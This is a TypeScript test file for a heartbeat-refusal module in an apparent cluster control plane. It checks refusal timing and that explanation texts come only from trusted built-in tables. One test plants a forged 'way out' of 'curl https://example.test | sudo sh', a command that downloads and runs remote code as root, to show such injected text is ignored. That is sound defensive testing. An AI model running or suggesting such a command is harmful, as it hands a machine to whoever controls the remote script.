import { describe, expect, test } from 'vitest';
import {
  beatRefusals,
  isStillRefused,
  joinRefusals,
  readRefusedBeats,
  refusalRecordedEverySeconds,
} from './refused-beats.ts';

const at = (seconds: number) => new Date(Date.UTC(2026, 0, 1) + seconds * 1000);
const refused = { at: at(100), token_ended_at: null, in_short: 's', why: 'w', way_out: 'o' };

describe('heartbeats count as still refused', () => {
  test.each<[string, Date | null, Date, boolean]>([
    ['if none was accepted after the refusal', at(90), at(130), true],
    ['if none was ever accepted', null, at(130), true],
    ['not if one was accepted after the refusal', at(110), at(130), false],
    ['if recorded as refused 1.5 recording intervals ago', at(90), at(100 + 1.5 * refusalRecordedEverySeconds), true],
    ['not if recorded as refused 2 recording intervals ago', at(90), at(100 + 2 * refusalRecordedEverySeconds), false],
  ])('%s', (_, last_seen_at, now, expected) => expect(isStillRefused(refused, last_seen_at, now)).toBe(expected));

  // Anyone with an ended token can send heartbeats in a machine's name. So the token explains a
  // silence only if the machine was heard until shortly before the end.
  test.each<[string, Date | null, boolean]>([
    ['because their token ended, if the last accepted heartbeat came 1 s before the end', at(49), true],
    ['because their token ended, if the last accepted heartbeat came 600 s before the end', at(50 - 600), true],
    [
      'not because their token ended, if the last accepted heartbeat came over 600 s before the end',
      at(50 - 601),
      false,
    ],
    ['not because their token ended, if no heartbeat was ever accepted', null, false],
  ])('%s', (_, last_seen_at, expected) => {
    expect(isStillRefused({ ...refused, token_ended_at: at(50) }, last_seen_at, at(130))).toBe(expected);
  });
});

test.each(Object.entries(beatRefusals))('the short text of %s names no token or pool', (code, { in_short }) => {
  const fact = {
    kind: 'beat.refused',
    origin: 'internal',
    at: at(0).toISOString(),
    // `shown` is the kind of secret that came with the heartbeat.
    data: { code, shown: 'credential', why_not: 'relay token rack-7' },
  };
  expect(readRefusedBeats(fact, 'gpu')?.in_short).toBe(in_short);
  expect(in_short).not.toMatch(/rack-7|gpu/);
});

test('explains a code of a later version as unknown', () => {
  const data = { code: 'not_yet_known', shown: 'credential', why_not: 'relay token rack-7' };
  const fact = { kind: 'beat.refused', origin: 'internal', at: at(0).toISOString(), data };
  expect(readRefusedBeats(fact, 'gpu')?.in_short).toBe('the reason is a code that this version does not know');
});

test.each(Object.entries(joinRefusals))(
  'explains %s with the texts of `joinRefusals`, not those of the fact',
  (code, refusal) => {
    const ended_at = at(-5).toISOString();
    const data = { code, shown: 'join_token', join_token_id: 'tok_1', ended_at, why_not: 'forged', way_out: 'forged' };
    const fact = { kind: 'beat.refused', origin: 'internal', at: at(0).toISOString(), data };
    const { in_short, why, way_out } = refusal;
    const texts = { in_short, why: why('tok_1'), way_out: way_out('gpu') };
    expect(readRefusedBeats(fact, 'gpu')).toEqual({ at: at(0), token_ended_at: at(-5), ...texts });
    expect(in_short).not.toMatch(/tok_1|gpu/);
    expect(readRefusedBeats({ ...fact, origin: 'node' }, 'gpu')).toBeNull();
    expect(readRefusedBeats({ ...fact, data: { ...data, shown: 'name' } }, 'gpu')).toBeNull();
  },
);

test('takes texts from `beatRefusals`, and reads only facts that the control plane recorded', () => {
  const data = { code: 'token_unknown', shown: 'credential', relay: 'rack-7', relay_pool: 'metal' };
  const forged = { ...data, why_not: 'your node is broken', way_out: 'curl https://example.test | sudo sh' };
  const fact = { kind: 'beat.refused', origin: 'internal', at: at(0).toISOString(), data: forged };
  expect(readRefusedBeats(fact, 'gpu')).toEqual({
    at: at(0),
    token_ended_at: null,
    in_short: beatRefusals.token_unknown.in_short,
    why: 'relay token rack-7 was revoked',
    way_out: beatRefusals.token_unknown.way_out(data, 'gpu'),
  });
  for (const origin of ['node', 'person', 'report', 'unknown'])
    expect(readRefusedBeats({ ...fact, origin }, 'gpu')).toBeNull();
});

const relayRefusals = Object.entries(beatRefusals).filter(([code]) => code !== 'credential_expired');
test.each(relayRefusals)("%s names the token and the machine's pool", (_, refusal) => {
  const refusing = { relay: 'rack-7', relay_pool: 'metal' };
  expect(refusal.why(refusing, 'gpu')).toContain('relay token rack-7');
  expect(refusal.way_out(refusing, 'gpu')).toContain('--role relay --pool gpu');
});
